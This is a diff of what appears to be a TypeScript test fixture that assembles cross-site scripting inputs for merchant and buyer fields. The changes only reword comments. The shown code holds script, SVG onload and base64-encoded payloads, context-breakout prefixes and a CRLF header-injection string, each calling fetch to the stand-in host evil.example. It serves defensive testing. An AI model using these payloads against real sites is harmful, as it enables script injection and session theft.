@@ -1,10 +1,13 @@
-/** Where a payload that runs or loads something would call. */
+/** The host that a payload would contact if it ran or loaded something. */
 const EVIL = 'https://evil.example';
 const RUN = `top.__ran=1;fetch('${EVIL}/ran')`;
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`;
 const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString('base64');
 
-/** An element of every kind that loads, runs or is focused by itself, closing what may be open. */
+/**
+ * An element of every kind that loads, runs or takes focus on its own, closing any open context
+ * first.
+ */
 const BREAKOUTS = ['', '">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</datalist>'];
 const ELEMENTS = [
   `<script>${RUN}</script>`,
@@ -188,7 +191,7 @@ const SYNTAX = [
   `\r\nSet-Cookie: a=1\r\n\r\n<script>${RUN}</script>`,
 ];
 
-/** What a merchant, or a buyer, might put into a field (docs/contract/invariants.md#32). */
+/** Texts a merchant or a buyer might put into a field (docs/contract/invariants.md#32). */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...BREAKOUTS.flatMap((breakout) => ELEMENTS.map((element) => breakout + element)),
   ...HANDLERS,
